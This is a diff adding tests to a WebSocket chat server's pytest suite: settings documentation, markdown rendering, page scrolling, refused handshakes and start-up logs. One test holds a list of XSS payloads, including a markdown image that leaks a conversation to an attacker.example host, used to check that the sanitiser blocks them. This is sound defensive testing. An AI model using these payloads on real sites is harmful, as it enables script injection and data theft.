@@ -1,6 +1,6 @@
 """Tests for chat_stream.py: a real uvicorn server, real WebSocket clients, and a local Bedrock on the real wire.
 
-Run: pytest -q          (QUICK=1 pytest -q skips the slow abuse and memory tests; CI runs them all)
+Run: pytest -q -n 2     (QUICK=1 pytest -q -n 2 skips the slow abuse and memory tests; CI runs them all)
 
 Laid out as the module is: fixtures, then the helpers the sections share, then a section for each part of the
 reference in the order a question travels (settings, the protocol, the models, errors, the meter, long
@@ -44,6 +44,7 @@ from websockets.sync.client import ClientConnection, connect
 
 from bedrock_stand_in import (
     OVERFLOWS,
+    SETTINGS,
     FakeBedrock,
     RedisServer,
     Reply,
@@ -683,6 +684,49 @@ def test_dotenv_file(tmp_path: Path, bedrock: FakeBedrock) -> None:
     assert call.body["inferenceConfig"] == {"maxTokens": 4096, "temperature": 0.2}
 
 
+# Every setting the module reads is in .env.example and in the README's settings table, with the default the module
+# has (read from the module itself, imported with none set), and the tests' clean environment blanks each of them.
+def test_every_setting_documented_with_its_default() -> None:
+    tree = ast.parse((HERE / "chat_stream.py").read_text())
+    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and getattr(n.func, "id", None) == "setting"]
+    names = [call.args[0].value for call in calls]
+    script = f"import json, chat_stream as m; print(json.dumps({{k: repr(getattr(m, k)) for k in {names!r}}}))"
+    result = subprocess.run([sys.executable, "-c", script], cwd=HERE, env=server_env(), capture_output=True, text=True)
+    defaults = {name: shown_default(value) for name, value in json.loads(result.stdout).items()}  # computed ones
+    for call in calls:  # and those the code spells out, as it spells them (METRICS is a bool once read)
+        with contextlib.suppress(ValueError):
+            defaults[call.args[0].value] = shown_default(repr(ast.literal_eval(call.args[2])))
+    assert sorted(names) == sorted(SETTINGS), result.stderr
+
+    documented = {}  # the README's table: `NAME` (or `A` / `B`) | `default` (or `a` / `b`) | ...
+    for row in re.findall(r"^\| (`[A-Z_]+`(?: / `[A-Z_]+`)?) \| ([^|]+) \|", (HERE / "README.md").read_text(), re.M):
+        keys, values = re.findall(r"`([A-Z_]+)`", row[0]), row[1].split(" / ")
+        for key, value in zip(keys, values if len(values) == len(keys) else values * len(keys), strict=True):
+            quoted = re.match(r"\s*`([^`]*)`", value)
+            documented[key] = quoted.group(1) if quoted else value.split()[0]
+    assert {name: documented.get(name) for name in names} == defaults
+
+    example = dict(re.findall(r"^# ([A-Z_]+)=(\S*)", (HERE / ".env.example").read_text(), re.M))
+    example |= dict(re.findall(r"^([A-Z_]+)=(\S*)", (HERE / ".env.example").read_text(), re.M))
+    assert sorted(example) == sorted(names)
+    commented = {k: v for k, v in re.findall(r"^# ([A-Z_]+)=(\S*)", (HERE / ".env.example").read_text(), re.M)}
+    assert {k: v for k, v in commented.items() if defaults[k] != "unset"} == {
+        k: defaults[k] for k in commented if defaults[k] != "unset"
+    }  # a commented line shows the default; one set (BEDROCK_MODEL_ID=offline) is the example's choice
+
+
+def shown_default(value: str) -> str:
+    """A default as the docs show it: `unset` for none, numbers without trailing zeros or underscores, a list's item."""
+    value = ast.literal_eval(value) if not value.startswith("frozenset") else None
+    if value is None or value == "":
+        return "unset"
+    if isinstance(value, list):
+        return value[0]
+    if isinstance(value, float):
+        return f"{value:g}"
+    return str(value)
+
+
 # --- the protocol: one question, its frames, the session's memory, /healthz
 
 
@@ -907,31 +951,30 @@ asyncio.run(main())
     assert not bedrock.calls_for("use a tool")
 
 
-# BEDROCK_MODEL_ID=offline streams a deterministic answer through the same path, with no AWS call at all.
+# BEDROCK_MODEL_ID=offline streams a deterministic answer through the same path, with no AWS call at all: the question
+# quoted in a little markdown (a list, and a code block whose fence is longer than any run of backticks in it).
 def test_offline_model(tmp_path: Path, bedrock: FakeBedrock) -> None:
     before = len(bedrock.calls)
-    with run_server(tmp_path, BEDROCK_MODEL_ID="offline", MAX_TOKENS="14") as server:
+    with run_server(tmp_path, BEDROCK_MODEL_ID="offline", MAX_TOKENS="30") as server:
         with connect(server.ws_url) as ws:
             frames = ask(ws, "what is 2 + 2")
             capped = ask(ws, "one two three four five")
-    words = [
-        "This",
-        " is",
-        " the",
-        " offline",
-        " demo",
-        " model,",
-        " so",
-        " I",
-        " can",
-        " only",
-        " echo.",
-        " You",
-        " asked:",
-    ]
-    assert frames == answer_frames("s1", [*words, " what", " is", " 2", " +", " 2"][:14], 5, "max_tokens")
-    assert capped == answer_frames("s1", [*words, " one"], 5 + 14 + 5, "max_tokens")
+    words = re.findall(r"\s*\S+", offline("what is 2 + 2"))
+    assert len(words) == 33 and words[-7:] == ["\n\n```", "\nwhat", " is", " 2", " +", " 2", "\n```"]
+    assert frames == answer_frames("s1", words[:30], 5, "max_tokens")
+    history = 5 + len("".join(words[:30]).split())
+    assert capped == answer_frames(
+        "s1", re.findall(r"\s*\S+", offline("one two three four five"))[:30], history + 5, "max_tokens"
+    )
     assert len(bedrock.calls) == before
+
+
+def offline(question: str, fence: str = "```") -> str:
+    """The offline model's answer to `question`."""
+    return (
+        "This is the offline demo model: it can only echo.\n\n- no AWS account needed\n- streamed word by word, as "
+        f"Bedrock's answers are\n\nYou asked:\n\n{fence}\n{question}\n{fence}"
+    )
 
 
 # The offline model without a cap ends with end_turn.
@@ -939,15 +982,17 @@ def test_offline_model_end_turn(tmp_path: Path) -> None:
     with run_server(tmp_path, BEDROCK_MODEL_ID="offline") as server:
         with connect(server.ws_url) as ws:
             frames = ask(ws, "hi")
+            fenced = ask(ws, "a ``` b", "s2")
     assert frames[-1] == {
         "type": "end",
         "session_id": "s1",
         "turn_id": ANY,
-        "full_text": "This is the offline demo model, so I can only echo. You asked: hi",
+        "full_text": offline("hi"),
         "stop_reason": "end_turn",
-        "usage": usage(1, 14),
+        "usage": usage(1, 29),
         "history_trimmed": 0,
     }
+    assert fenced[-1]["full_text"] == offline("a ``` b", "````")
 
 
 # The offline model answers any question within the limits in milliseconds (the old regex took 6 s of CPU).
@@ -2194,7 +2239,7 @@ def test_the_reference_offline(tmp_path: Path, bedrock: FakeBedrock) -> None:
     before = len(bedrock.calls)
     with run_reference(tmp_path, BEDROCK_MODEL_ID="offline") as s:
         with connect(s.ws_url) as ws:
-            assert ask(ws, "hi")[-1]["full_text"] == "This is the offline demo model, so I can only echo. You asked: hi"
+            assert ask(ws, "hi")[-1]["full_text"] == offline("hi")
     assert len(bedrock.calls) == before
 
 
@@ -2588,7 +2633,8 @@ def test_a_turn_the_store_cannot_record(own_store: RedisServer, bedrock: FakeBed
             "message": "Sessions cannot be stored right now; try again shortly.",
         }
         wait_for(lambda: "outcome=unavailable" in server.log(), 5, "the answer's line")
-        assert bedrock.calls_for("not recorded")[0].client_closed_at
+        (call,) = bedrock.calls_for("not recorded")
+        wait_for(lambda: call.client_closed_at, 5, "the Bedrock stream to close")  # the stand-in sees it a moment later
         scraped = scrape(server)
     assert by(scraped["chat_stream_answers_total"], "outcome")["unavailable"] == 1
     assert by(scraped["chat_stream_refusals_total"], "code")["unavailable"] == 1
@@ -3138,7 +3184,205 @@ def test_page_passes_token(page: Any, guarded: Server) -> None:
     open_chat(page, f"{guarded.http}/?token={QUOTED_KEY}")
     assert API_KEY not in page.content() and QUOTED_KEY not in page.content()
     page.goto(f"{guarded.http}/")
-    expect(page.locator("#state")).to_contain_text("disconnected")
+    expect(page.locator("#state")).to_contain_text("refused: this server needs a key")
+
+
+# The page follows the newest text while the reader is at the bottom (tokens as they stream, the "Stopped." note, an
+# error box), at desktop and phone size: the last element's box is inside the conversation's view, above the input
+# bar. Scrolled up to read, the reader keeps the scroll where it is while the answer streams on.
+@needs_chromium
+@pytest.mark.parametrize("size", [(1280, 800), (390, 844)], ids=["desktop", "phone"])
+def test_page_follows_the_newest_text(page: Any, server: Server, bedrock: FakeBedrock, size: tuple[int, int]) -> None:
+    from playwright.sync_api import expect
+
+    page.set_viewport_size({"width": size[0], "height": size[1]})
+    bedrock.replies[f"many lines {size}"] = Reply(tokens=[f"line {i}\n" for i in range(400)], delay=0.02)
+    bedrock.replies[f"an error {size}"] = Reply(http_error=(403, "AccessDeniedException"))
+    in_view = """() => {  // the end of the last element shows in the conversation's view, above the input bar
+        const log = document.querySelector('#log').getBoundingClientRect();
+        const last = document.querySelector('#log').lastElementChild.getBoundingClientRect();
+        const bar = document.querySelector('#ask').getBoundingClientRect();
+        return last.bottom > log.top && last.bottom <= log.bottom + 1 && log.bottom <= bar.top + 1
+            && bar.bottom <= innerHeight + 1;
+    }"""
+    open_chat(page, server.http + "/")
+    ask_on_page(page, f"many lines {size}")
+    expect(page.locator(".bot")).to_contain_text("line 60")
+    assert page.evaluate("log.scrollHeight > 2 * log.clientHeight") and page.evaluate(in_view)
+    page.evaluate("log.scrollTop = 0")  # the reader scrolls up to read
+    expect(page.locator(".bot")).to_contain_text("line 120")
+    assert page.evaluate("log.scrollTop") == 0
+    page.evaluate("log.scrollTop = log.scrollHeight")  # and back to the bottom: followed again
+    expect(page.locator(".bot")).to_contain_text("line 160")
+    assert page.evaluate(in_view)
+    page.locator("#send", has_text="Stop").click()
+    expect(page.locator(".note")).to_have_text("Stopped.")
+    assert page.evaluate(in_view)
+    ask_on_page(page, f"an error {size}")
+    expect(page.locator(".error")).to_have_text(f"{MESSAGES['access_denied']} (access_denied)")
+    assert page.evaluate(in_view)
+
+
+MARKDOWN = [  # what the model writes -> the DOM the page builds from it (as innerHTML)
+    ("**bold**, *it*, _it_, ***both***, ~~gone~~, `code`", "<p><strong>bold</strong>, <em>it</em>, <em>it</em>, "
+     "<strong><em>both</em></strong>, <del>gone</del>, <code>code</code></p>"),
+    ("snake_case_name, 2*3*4, a\\*b\\*", "<p>snake_case_name, 2<em>3</em>4, a*b*</p>"),
+    ("line one\nline two\n\nanother paragraph", "<p>line one\nline two</p><p>another paragraph</p>"),
+    ("# Title\n### Small", "<h1>Title</h1><h3>Small</h3>"),
+    ("- a\n- b\n  - nested\n- c", "<ul><li>a</li><li>b<ul><li>nested</li></ul></li><li>c</li></ul>"),
+    ("1. one\n2. two", "<ol><li>one</li><li>two</li></ol>"),
+    ("3. three\n4. four", '<ol start="3"><li>three</li><li>four</li></ol>'),
+    ("> quoted\n> more", "<blockquote><p>quoted\nmore</p></blockquote>"),
+    ("```python\nprint('<b>')\n```\nafter", "<pre><code>print('&lt;b&gt;')</code></pre><p>after</p>"),
+    ("```\nunterminated, as while it streams", "<pre><code>unterminated, as while it streams</code></pre>"),
+    ("| a | b |\n|---|:-:|\n| 1 | 2 |", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td>"
+     "<td>2</td></tr></tbody></table>"),
+    ("---", "<hr>"),
+    ("[docs](https://example.com/a?b=1)", '<p><a href="https://example.com/a?b=1" target="_blank" '
+     'rel="noopener noreferrer">docs</a></p>'),
+    ("<mailto:me@example.com> and https://example.com/x.", '<p><a href="mailto:me@example.com" target="_blank" '
+     'rel="noopener noreferrer">mailto:me@example.com</a> and <a href="https://example.com/x" target="_blank" '
+     'rel="noopener noreferrer">https://example.com/x</a>.</p>'),
+    ("![a chart](https://example.com/chart.png)", '<p><a href="https://example.com/chart.png" target="_blank" '
+     'rel="noopener noreferrer">[image: a chart]</a></p>'),
+    ("<b>not bold</b> &amp;", "<p>&lt;b&gt;not bold&lt;/b&gt; &amp;amp;</p>"),
+]  # fmt: skip
+
+
+# Answers are rendered as markdown (a rendering table: markdown in, DOM out); code is in a monospace font and
+# scrolls sideways instead of wrapping; the user's own question stays text; the offline model's demo answer shows it.
+@needs_chromium
+def test_page_renders_markdown(page: Any, tmp_path: Path) -> None:
+    from playwright.sync_api import expect
+
+    with run_server(tmp_path, BEDROCK_MODEL_ID="offline") as server:
+        open_chat(page, server.http + "/")
+        rendered = "(md) => { const el = document.createElement('div'); markdown(el, md); return el.innerHTML; }"
+        assert [(md, page.evaluate(rendered, md)) for md, _ in MARKDOWN] == MARKDOWN
+        ask_on_page(page, "**not bold** " + "x" * 300)
+        expect(page.locator(".bot pre code")).to_have_text("**not bold** " + "x" * 300)
+        expect(page.locator(".user")).to_have_text("**not bold** " + "x" * 300)
+        expect(page.locator(".bot li")).to_have_text(
+            ["no AWS account needed", "streamed word by word, as Bedrock's answers are"]
+        )
+        font = page.evaluate("getComputedStyle(document.querySelector('.bot pre code')).fontFamily")
+        assert (
+            "monospace" in font
+            and page.evaluate("getComputedStyle(document.querySelector('.bot pre')).overflowX") == "auto"
+        )
+        assert page.evaluate(
+            "document.querySelector('.bot pre').scrollWidth > document.querySelector('.bot pre').clientWidth"
+        )
+
+
+XSS = [  # the OWASP cheat sheet's classics, and markdown's own ways in
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    '<iframe src="javascript:window.pwned=1"></iframe>',
+    '<a href="javascript:window.pwned=1">x</a>',
+    "<<script>script>window.pwned=1<</script>/script>",
+    "[x](javascript:window.pwned=1)",
+    "[x](JaVaScRiPt:window.pwned=1)",
+    "[x](javascript&#58;window.pwned=1)",
+    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox)",
+    "[x](//attacker.example/relative)",
+    "<javascript:window.pwned=1>",
+    "![leak](https://attacker.example/pixel.png?conversation=secret)",
+    "![x](javascript:window.pwned=1)",
+    "[<img src=x onerror=window.pwned=1>](https://ok.example)",
+    "**<img src=x onerror=window.pwned=1>**",
+    "`<script>window.pwned=1</script>`",
+    "```html\n<script>window.pwned=1</script>",
+    "***nested **emphasis*** here** and *unclosed",
+    '[a](https://ok.example "x\\" onmouseover=window.pwned=1")',
+    'https://ok.example/"onmouseover="window.pwned=1',
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "| <img src=x onerror=window.pwned=1> |\n|---|\n| [x](javascript:window.pwned=1) |",
+    "> <script>window.pwned=1</script>\n> ![x](https://attacker.example/q.png)",
+]
+ALLOWED_TAGS = {"P", "STRONG", "EM", "DEL", "CODE", "PRE", "A", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "TABLE", "THEAD",
+                "TBODY", "TR", "TH", "TD", "H1", "H2", "H3", "H4", "H5", "H6"}  # fmt: skip
+CHECK_DOM = """(root) => [...root.querySelectorAll('*')].map((el) => [el.tagName,
+    [...el.attributes].map((a) => a.name), el.getAttribute('href')])"""
+
+
+# Nothing in a model's markdown runs, loads or leaves the page: every vector of an XSS table, rendered alone and in a
+# streamed answer, leaves only the renderer's own elements, no attribute but href, target, rel and start, links only
+# to http(s) and mailto, no image; nothing runs (no dialog, window.pwned unset) and no request leaves the server.
+@needs_chromium
+def test_page_markdown_runs_nothing(page: Any, server: Server, bedrock: FakeBedrock) -> None:
+    from playwright.sync_api import expect
+
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    open_chat(page, server.http + "/")
+    answer = "\n\n".join(XSS)
+    bedrock.replies["xss please"] = Reply(tokens=[answer[i : i + 7] for i in range(0, len(answer), 7)], delay=0.002)
+    ask_on_page(page, "xss please")
+    expect(page.locator("#send")).to_have_text("Send", timeout=15_000)  # the whole answer, rendered
+    whole = "(md) => { const el = document.createElement('div'); markdown(el, md); return el.textContent; }"
+    assert page.locator(".bot").text_content() == page.evaluate(whole, answer)
+    rendered = [page.evaluate(f"(md) => {{ const el = document.createElement('div'); document.body.append(el); "
+                              f"markdown(el, md); return ({CHECK_DOM})(el); }}", vector) for vector in XSS]  # fmt: skip
+    page.wait_for_timeout(300)  # a frame or two, for anything that would load or fire
+    for elements in [*rendered, page.evaluate(CHECK_DOM, page.locator(".bot").element_handle())]:
+        for tag, attributes, href in elements:
+            assert tag in ALLOWED_TAGS and set(attributes) <= {"href", "target", "rel", "start"}, (tag, attributes)
+            assert href is None or re.match(r"(https://|mailto:)", href), href
+    assert page.evaluate("window.pwned") is None and page.dialogs == []
+    assert all(url.startswith((server.http, server.ws_url.replace("/ws/chat/completions", ""))) for url in requests)
+
+
+# A handshake the server refuses says why, and the page stops retrying one that retrying cannot fix: no key, or a
+# wrong one (403, "add ?token="); a server that is down is retried. The server's log names each reason, never a key.
+@needs_chromium
+def test_page_says_why_it_is_refused(page: Any, guarded: Server) -> None:
+    from playwright.sync_api import expect
+
+    page.goto(f"{guarded.http}/")
+    expect(page.locator("#state")).to_have_text("refused: this server needs a key; open this page as /?token=<key>")
+    page.wait_for_timeout(1500)  # longer than the first retry's wait (0.5 s): none comes
+    assert page.evaluate("retries") == 0 and page.locator("#state").text_content().startswith("refused: this server")
+    page.goto(f"{guarded.http}/?token=not-the-key")
+    expect(page.locator("#state")).to_have_text("refused: the key in ?token= is not this server's")
+    assert "refused a WebSocket: no key" in guarded.log() and "refused a WebSocket: wrong key" in guarded.log()
+    assert "not-the-key" not in guarded.log()
+    open_chat(page, f"{guarded.http}/?token={QUOTED_KEY}")
+
+
+# A refresh redraws the page's notes where they were: "Stopped." after a stopped answer, an error (with the question
+# that failed, which the server does not keep) after the answer before it, and a question stopped before its first
+# token (not kept either) with its note.
+@needs_chromium
+def test_page_keeps_notes_across_a_refresh(page: Any, resumable_layered: Server, bedrock: FakeBedrock) -> None:
+    from playwright.sync_api import expect
+
+    bedrock.replies["stop me"] = Reply(tokens=[f" s{i}" for i in range(300)], delay=0.03)
+    bedrock.replies["stop me early"] = Reply(tokens=["late"], first_delay=3)
+    bedrock.replies["fail me"] = Reply(http_error=(403, "AccessDeniedException"))
+    open_chat(page, resumable_layered.http + "/")
+    ask_on_page(page, "notes first")
+    expect(page.locator(".bot")).to_have_text(echo("notes first"))
+    ask_on_page(page, "stop me")
+    expect(page.locator(".bot").last).to_contain_text("s3")
+    page.locator("#send", has_text="Stop").click()
+    expect(page.locator(".note")).to_have_text("Stopped.")
+    ask_on_page(page, "fail me")
+    expect(page.locator(".error")).to_have_text(f"{MESSAGES['access_denied']} (access_denied)")
+    ask_on_page(page, "stop me early")
+    expect(page.locator("#send")).to_have_text("Stop")
+    page.locator("#send", has_text="Stop").click()
+    expect(page.locator(".note")).to_have_text(["Stopped.", "Stopped."])
+    shown = "[...document.querySelectorAll('#log > *')].map((el) => [el.className, el.textContent])"
+    before = page.evaluate(shown)
+    assert [kind for kind, _ in before] == ["msg user", "msg bot", "msg user", "msg bot", "msg note", "msg user",
+                                            "msg error", "msg user", "msg note"]  # fmt: skip
+    page.reload()
+    expect(page.locator("#state")).to_have_text("connected")
+    expect(page.locator(".note")).to_have_text(["Stopped.", "Stopped."])
+    assert page.evaluate(shown) == before
 
 
 # --- the server: uvicorn's protocols and their limits against clients that misbehave on purpose (raw sockets
@@ -3478,6 +3722,79 @@ def test_warning_when_open_to_the_network(tmp_path: Path) -> None:
         assert "listening on 0.0.0.0 without CHAT_API_KEY" in server.log()
     with run_server(tmp_path, BEDROCK_MODEL_ID="offline") as server:
         assert "without CHAT_API_KEY" not in server.log()
+
+
+# Start-up tells the truth: "ready" once the socket listens, naming the store; a port in use: one line naming it, exit
+# 1, no "ready"; WORKERS > 1 without REDIS_URL: a warning; a Bedrock model with no AWS credentials anywhere: a warning
+# saying how to give them (start-up goes on).
+def test_start_up_lines(tmp_path: Path, store: RedisServer) -> None:
+    with run_server(tmp_path, BEDROCK_MODEL_ID="offline") as server:
+        ready = f"chat-stream ready on http://127.0.0.1:{server.port}/ (model=offline, sessions in this process)"
+        wait_for(lambda: ready in server.log(), 5, "the ready line")
+        assert server.log().index("Uvicorn running on") < server.log().index(ready)
+        assert "no AWS credentials" not in server.log() and "WORKERS" not in server.log()
+        taken = start_up(BEDROCK_MODEL_ID="offline", PORT=server.port)
+    assert taken.returncode == 1 and "chat-stream" not in taken.stdout + taken.stderr
+    assert (
+        taken.stderr == f"chat_stream: cannot listen on 127.0.0.1:{server.port} (HOST, PORT): Address already in use\n"
+    )
+    with run_server(tmp_path, BEDROCK_MODEL_ID="offline", REDIS_URL=store.url) as server:
+        wait_for(lambda: f"sessions in Redis at redis://127.0.0.1:{store.port}/0)" in server.log(), 5, "the ready line")
+    nowhere = {"AWS_ACCESS_KEY_ID": None, "AWS_SECRET_ACCESS_KEY": None, "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent"}
+    with run_server(
+        tmp_path, BEDROCK_ENDPOINT_URL="http://127.0.0.1:9", AWS_CONFIG_FILE="/nonexistent", **nowhere
+    ) as server:
+        wait_for(lambda: "chat-stream ready" in server.log(), 5, "the ready line")
+        assert f"WARNING:  no AWS credentials found for {NOVA}: give them (AWS_PROFILE" in server.log()
+    with run_server(tmp_path, BEDROCK_MODEL_ID="offline", WORKERS=2) as server:
+        wait_for(lambda: server.log().count("chat-stream ready") == 2, 30, "two workers")
+        assert "chat_stream: warning: WORKERS=2 without REDIS_URL: a resume finds its session only on" in server.log()
+
+
+# A refused handshake is logged with its reason, never with a key: no key, a wrong key, an Origin, a Host, full;
+# a denial response (400, 503) leaves no ERROR line (uvicorn 0.54 wrote "ASGI callable returned without completing
+# handshake" after each); and GET on the chat path tells the page the same reason.
+def test_refused_handshakes_say_why(tmp_path: Path) -> None:
+    settings = {"BEDROCK_MODEL_ID": "offline", "CHAT_API_KEY": "s3cret-key", "MAX_CONNECTIONS": 1}
+    key = "Authorization: Bearer s3cret-key\r\n"
+    with run_server(tmp_path, **settings) as server:
+        attempts = [
+            ("", "127.0.0.1", 403),
+            ("Authorization: Bearer wrong-key\r\n", "127.0.0.1", 403),
+            (f"{key}Origin: https://evil.example\r\n", "127.0.0.1", 403),
+            (key, "rebind.example", 400),
+        ]
+        for headers, host, status in attempts:
+            sock, got = handshake(server.port, host=host, headers=headers)
+            sock.close()
+            assert got == status
+        with connect(f"{server.ws_url}?token=s3cret-key"):
+            sock, got = handshake(server.port, headers=key)
+            sock.close()
+            assert got == 503
+            check = httpx.get(f"{server.http}/ws/chat/completions?token=s3cret-key")
+            assert (check.status_code, check.json()) == (
+                503,
+                {"accepted": False, "reason": "MAX_CONNECTIONS=1 are open"},
+            )
+        wait_for(lambda: server.log().count("refused a WebSocket") == 5, 5, "a line for each")
+        for reason in (
+            "no key",
+            "wrong key",
+            "Origin 'https://evil.example' not allowed (ALLOWED_ORIGINS)",
+            "Host 'rebind.example' not allowed (ALLOWED_HOSTS)",
+            "MAX_CONNECTIONS=1 are open",
+        ):
+            assert f"WARNING:  refused a WebSocket: {reason}\n" in server.log()
+        assert "wrong-key" not in server.log() and "s3cret-key" not in server.log() and "ERROR" not in server.log()
+        checks = [
+            httpx.get(f"{server.http}/ws/chat/completions{query}") for query in ("", "?token=x", "?token=s3cret-key")
+        ]
+        assert [(r.status_code, r.json()) for r in checks] == [
+            (403, {"accepted": False, "reason": "no key"}),
+            (403, {"accepted": False, "reason": "wrong key"}),
+            (200, {"accepted": True}),
+        ]
 
 
 # SIGTERM drains: /healthz says 503 "draining" and new handshakes get 503; an idle connection is closed with
